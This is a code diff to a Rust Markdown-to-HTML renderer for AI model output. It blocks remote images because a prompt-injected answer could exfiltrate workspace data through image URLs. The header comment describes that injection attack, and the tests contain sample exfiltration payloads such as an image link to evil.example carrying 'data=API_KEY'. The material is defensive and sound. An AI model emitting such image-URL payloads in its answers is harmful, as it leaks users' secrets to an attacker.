@@ -1,23 +1,123 @@
 //! Markdown from the model, rendered to HTML that is safe to insert: raw HTML in the source is shown
 //! as text, and the output goes through `ammonia`, which drops scripts, event handlers and
-//! `javascript:` links. Runs the same on the server (SSR) and in the browser.
+//! `javascript:` links. Images are never fetched from elsewhere: a prompt-injected answer could put
+//! workspace contents into an image URL, so a non-inline image becomes a link that names its host
+//! (`[image: alt — from evil.example]`); only inline `data:` raster images are shown. Runs the same
+//! on the server (SSR) and in the browser.
 
-use pulldown_cmark::{html, Event, Options, Parser};
+use std::borrow::Cow;
+
+use pulldown_cmark::{html, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};
+
+/// Inline images shown as images; anything else (SVG can carry script) is not.
+const SHOWN_DATA_IMAGES: &[&str] = &["data:image/png;base64,", "data:image/gif;base64,", "data:image/jpeg;base64,", "data:image/webp;base64,"];
 
 /// Renders untrusted Markdown to sanitised HTML.
 pub fn render(markdown: &str) -> String {
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
-    let events = Parser::new_ext(markdown, options).map(|event| match event {
-        // Show what the model wrote instead of letting it become markup.
-        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
-        other => other,
-    });
+    let mut images = ImageRewriter::default();
+    let events = Parser::new_ext(markdown, options)
+        .map(|event| match event {
+            // Show what the model wrote instead of letting it become markup.
+            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+            other => other,
+        })
+        .flat_map(|event| images.rewrite(event));
     let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
     html::push_html(&mut unsafe_html, events);
     ammonia::Builder::default()
         .link_rel(Some("noopener noreferrer nofollow"))
+        .add_url_schemes(["data"])
+        // `data:` is allowed above for inline images only: not in links, not other media types.
+        .attribute_filter(|element, attribute, value| {
+            let is_data = value.trim_start().get(..5).is_some_and(|s| s.eq_ignore_ascii_case("data:"));
+            match (element, attribute) {
+                ("img", "src") if is_shown_data_image(value) => Some(Cow::Borrowed(value)),
+                ("img", "src") => None,
+                _ if is_data => None,
+                _ => Some(Cow::Borrowed(value)),
+            }
+        })
         .clean(&unsafe_html)
         .to_string()
+}
+
+fn is_shown_data_image(url: &str) -> bool {
+    SHOWN_DATA_IMAGES.iter().any(|prefix| url.get(..prefix.len()).is_some_and(|p| p.eq_ignore_ascii_case(prefix)))
+}
+
+/// Turns image events into a link (or, inside a link, plain text) that says where the image is.
+#[derive(Default)]
+struct ImageRewriter {
+    /// Open links around the current event: a link inside a link is not valid HTML.
+    link_depth: usize,
+    /// For each open image: whether it became a link (true) or plain text (false); `None` when kept.
+    open_images: Vec<Option<(bool, String)>>,
+}
+
+impl ImageRewriter {
+    fn rewrite<'a>(&mut self, event: Event<'a>) -> Vec<Event<'a>> {
+        match event {
+            Event::Start(Tag::Link { .. }) => {
+                self.link_depth += 1;
+                vec![event]
+            }
+            Event::End(TagEnd::Link) => {
+                self.link_depth = self.link_depth.saturating_sub(1);
+                vec![event]
+            }
+            Event::Start(Tag::Image { dest_url, title, id, link_type }) => {
+                if is_shown_data_image(&dest_url) {
+                    self.open_images.push(None);
+                    return vec![Event::Start(Tag::Image { dest_url, title, id, link_type })];
+                }
+                let source = describe_source(&dest_url);
+                let prefix = Event::Text(CowStr::from("[image: "));
+                let clickable = self.link_depth == 0 && !dest_url.trim_start().to_ascii_lowercase().starts_with("data:");
+                self.open_images.push(Some((clickable, source)));
+                if clickable {
+                    self.link_depth += 1;
+                    let link = Tag::Link { link_type: LinkType::Inline, dest_url, title, id: CowStr::from("") };
+                    vec![Event::Start(link), prefix]
+                } else {
+                    vec![prefix]
+                }
+            }
+            Event::End(TagEnd::Image) => match self.open_images.pop().flatten() {
+                None => vec![event],
+                Some((clickable, source)) => {
+                    let suffix = Event::Text(CowStr::from(format!(" — {source}]")));
+                    if clickable {
+                        self.link_depth = self.link_depth.saturating_sub(1);
+                        vec![suffix, Event::End(TagEnd::Link)]
+                    } else {
+                        vec![suffix]
+                    }
+                }
+            },
+            other => vec![other],
+        }
+    }
+}
+
+/// "from <host>" for an absolute URL, else what kind of source it is.
+fn describe_source(url: &str) -> String {
+    let url = url.trim();
+    if url.get(..5).is_some_and(|s| s.eq_ignore_ascii_case("data:")) {
+        return "inline data not shown".to_string();
+    }
+    let after_scheme = match url.split_once("://") {
+        Some((scheme, rest)) if !scheme.is_empty() && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) => Some(rest),
+        _ => url.strip_prefix("//"),
+    };
+    match after_scheme {
+        Some(rest) => {
+            let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
+            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+            if host.is_empty() { "from an unnamed host".to_string() } else { format!("from {host}") }
+        }
+        None => "not loaded".to_string(),
+    }
 }
 
 #[cfg(test)]
@@ -53,5 +153,44 @@ mod tests {
         let html = render("[docs](https://example.com/docs)");
         assert!(html.contains("href=\"https://example.com/docs\""), "{html}");
         assert!(html.contains("noopener"), "{html}");
+    }
+
+    #[test]
+    fn a_remote_image_becomes_a_link_naming_its_host_and_no_img_is_emitted() {
+        let html = render("see ![secret chart](http://evil.example:8080/leak?data=API_KEY \"t\") here");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(html.contains("href=\"http://evil.example:8080/leak?data=API_KEY\""), "{html}");
+        assert!(html.contains("[image: secret chart — from evil.example:8080]"), "{html}");
+    }
+
+    #[test]
+    fn every_kind_of_non_inline_image_is_not_loaded() {
+        let cases = [
+            "![a](https://user:pw@evil.example/x.png)",
+            "![a](//evil.example/x.png)",
+            "![a][r]\n\n[r]: http://evil.example/ref.png",
+            "![a](/api/threads)",
+            "![a](x.png)",
+            "![a](data:image/svg+xml;base64,PHN2Zz4=)",
+            "[![inner](http://evil.example/i.png)](https://ok.example/)",
+            "![outer ![inner](http://evil.example/i.png)](http://evil.example/o.png)",
+        ];
+        for case in cases {
+            let html = render(case);
+            assert!(!html.contains("<img"), "{case}: {html}");
+            assert!(html.contains("[image: "), "{case}: {html}");
+            assert!(!html.contains("<a href=\"https://ok.example/\" rel=\"noopener noreferrer nofollow\"><a"), "{case}: {html}");
+        }
+        assert!(render("![a](//evil.example/x.png)").contains("from evil.example]"));
+        assert!(render("![a](https://user:pw@evil.example/x.png)").contains("from evil.example]"));
+        assert!(render("![a](data:image/svg+xml;base64,PHN2Zz4=)").contains("inline data not shown"));
+    }
+
+    #[test]
+    fn inline_raster_images_are_shown_and_data_links_are_not() {
+        let html = render("![dot](data:image/png;base64,iVBORw0KGgo=)");
+        assert!(html.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">"), "{html}");
+        let html = render("[open](data:text/html;base64,PHNjcmlwdD4=)");
+        assert!(!html.contains("href"), "{html}");
     }
 }
